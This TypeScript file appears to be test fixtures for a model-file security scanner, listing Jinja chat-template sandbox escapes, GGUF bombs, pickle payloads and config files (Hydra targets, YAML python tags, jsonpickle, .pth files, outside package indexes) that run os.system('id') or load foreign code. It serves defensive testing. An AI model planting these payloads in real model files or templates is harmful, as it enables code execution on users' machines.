import { tar } from '../../helpers/tar.ts';
import { zip } from '../../helpers/zip.ts';
import { command, joined, json, type Attack } from './bytes.ts';
import { gguf } from './gguf.ts';

const TEMPLATES = [
  "{{ ''['__cla'~'ss__'] }}",
  '{{ x|attr("\\x5f\\x5fcla" ~ "ss\\x5f\\x5f") }}',
  '{% set x = cycler.__init__.__globals__ %}',
  '{{ joiner.__init__.__globals__ }}',
  '{{ self._TemplateReference__context }}',
  "{% import '/etc/passwd' as x %}",
  "{% include '/etc/passwd' %}",
  '{{ "{0.__class__}".format(messages) }}',
  "{{ messages|map(attribute='__class__')|list }}",
  "{{ ('%c%cclass%c%c'|format(95,95,95,95)) }}",
  '{{ messages|attr("form" ~ "at") }}',
  "{{ ''.join(['__','class','__']) }}",
  '{% for a in range(999999999) %}{% for b in range(999999999) %}x{% endfor %}{% endfor %}',
  "{{ messages|sort(attribute='__init__.__globals__') }}",
  '{{ dict(__cla=1,ss__=2)|join }}',
  '{{ url_for.__globals__ }}',
  '{{ get_flashed_messages.__globals__ }}',
  "{{ namespace.__init__.__globals__['os'].popen('id') }}",
  '{{ raise_exception.__globals__ }}',
  '{{ strftime_now.__globals__ }}',
  '{{ ().__class__.__base__ }}',
  "{{ messages[0]['__class__'] }}",
  '{{ messages.__len__.__self__ }}',
  "{{ ''|attr(request.args.x) }}",
  "{% extends 'x' %}",
  "{{ messages|xmlattr|attr('__class__') }}",
  "{{ (messages|string)[3:8] ~ '__' }}{{ x[y ~ '__'] }}",
];
/** Chat templates that leave Jinja's sandbox. */
export const TEMPLATE_ATTACKS: readonly Attack[] = [
  ...TEMPLATES.flatMap((template): Attack[] => [
    [
      `GGUF named template: ${template}`,
      'm.gguf',
      gguf([
        ['general.architecture', 'llama'],
        ['tokenizer.chat_template.tool_use', template],
      ]),
    ],
    [`chat_template.jinja: ${template}`, 'chat_template.jinja', Buffer.from(template)],
  ]),
  [
    'list of templates in a tokenizer',
    'tokenizer_config.json',
    json({
      chat_template: [
        { name: 'default', template: 'x' },
        { name: 'tool_use', template: '{{ lipsum.__globals__ }}' },
      ],
    }),
  ],
  ['chat_template.json', 'chat_template.json', json({ chat_template: '{{ lipsum.__globals__ }}' })],
  ['GGUF with a count that is a bomb', 'm.gguf', gguf([['a', 'b']], 2 ** 50)],
  [
    'GGUF with a key twice',
    'm.gguf',
    gguf([
      ['tokenizer.chat_template', 'x'],
      ['tokenizer.chat_template', '{{ lipsum.__globals__ }}'],
    ]),
  ],
  ['GGUF with a pickle behind it', 'm.gguf', joined(gguf([['a', 'b']]), command)],
];

/** Settings that make their reader import, call or fetch something. */
export const CONFIGURATION_ATTACKS: readonly Attack[] = [
  [
    'auto_map to remote code',
    'config.json',
    json({ model_type: 'x', auto_map: { AutoModel: 'evil/repo--modeling_x.Model' } }),
  ],
  [
    'sentence-transformers module of its own',
    'modules.json',
    json([{ idx: 0, name: '0', path: '', type: 'evil.module.Run' }]),
  ],
  ['diffusers class of its own', 'model_index.json', json({ _class_name: 'X', unet: ['evil_module', 'Model'] })],
  ['Hydra target in YAML', 'model_config.yaml', Buffer.from('model:\n  _target_: os.system\n  command: id\n')],
  ['Hydra target in JSON', 'config.json', json({ model: { _target_: 'builtins.exec', _args_: ['1'] } })],
  ['YAML that calls Python', 'config.yaml', Buffer.from('!!python/object/apply:os.system ["id"]\n')],
  [
    'YAML that calls Python by its long tag',
    'hyper.yml',
    Buffer.from('x: !<tag:yaml.org,2002:python/object/apply:os.system> ["id"]\n'),
  ],
  [
    'YAML with a tag directive',
    'hyper.yml',
    Buffer.from('%TAG !x! tag:yaml.org,2002:python/object/apply:\n---\na: !x!os.system ["id"]\n'),
  ],
  ['jsonpickle', 'model.json', json({ 'py/reduce': [{ 'py/function': 'os.system' }, { 'py/tuple': ['id'] }] })],
  ['jsonpickle object', 'config.json', json({ a: { 'py/object': 'subprocess.Popen' } })],
  [
    'NeMo archive with a target',
    'model.nemo',
    tar([
      { name: 'model_config.yaml', content: 'target: x\nmodel:\n  _target_: subprocess.Popen\n' },
      { name: 'model_weights.ckpt', content: zip([{ name: 'a/data.pkl', content: command }]) },
    ]),
  ],
  [
    'TorchServe archive with a handler',
    'model.mar',
    zip([
      { name: 'MAR-INF/MANIFEST.json', content: JSON.stringify({ model: { handler: 'handler.py' } }) },
      { name: 'handler.py', content: 'import os\nos.system("id")\n' },
    ]),
  ],
  [
    'torch.package',
    'model.pt',
    zip([
      { name: 'm/.data/extern_modules', content: 'os\n' },
      { name: 'm/model/model.pkl', content: command },
      { name: 'm/evil.py', content: 'import os\n' },
    ]),
  ],
  [
    'torch export with native code',
    'model.pt2',
    zip([
      { name: 'm/archive_format', content: 'pt2' },
      { name: 'm/data/aotinductor/model/x.so', content: joined(Buffer.from('7f454c46', 'hex'), Buffer.alloc(60)) },
    ]),
  ],
  ['.pth path file that runs code', 'evil.pth', Buffer.from('import os; os.system("id")\n')],
  [
    'requirements from elsewhere',
    'requirements.txt',
    Buffer.from('--extra-index-url http://10.0.0.1/simple\nscikit-learn\n'),
  ],
  [
    'conda environment from elsewhere',
    'conda.yaml',
    Buffer.from(
      'dependencies:\n- pip:\n  - --index-url http://10.0.0.1/simple\n  - evil @ https://example.invalid/evil.whl\n',
    ),
  ],
  [
    'notebook with code',
    'train.ipynb',
    json({ nbformat: 4, cells: [{ cell_type: 'code', source: ['import os\n', 'os.system("id")'] }] }),
  ],
  [
    'MLmodel with code paths',
    'MLmodel',
    Buffer.from(
      'flavors:\n  python_function:\n    loader_module: evil_loader\n    code: code\n    python_version: 3.11\nmodel_uuid: x\n',
    ),
  ],
  [
    'MLmodel with models from code',
    'MLmodel',
    Buffer.from(
      'flavors:\n  python_function:\n    loader_module: mlflow.pyfunc.model\n    model_code_path: evil.py\n    python_version: 3.11\n',
    ),
  ],
];
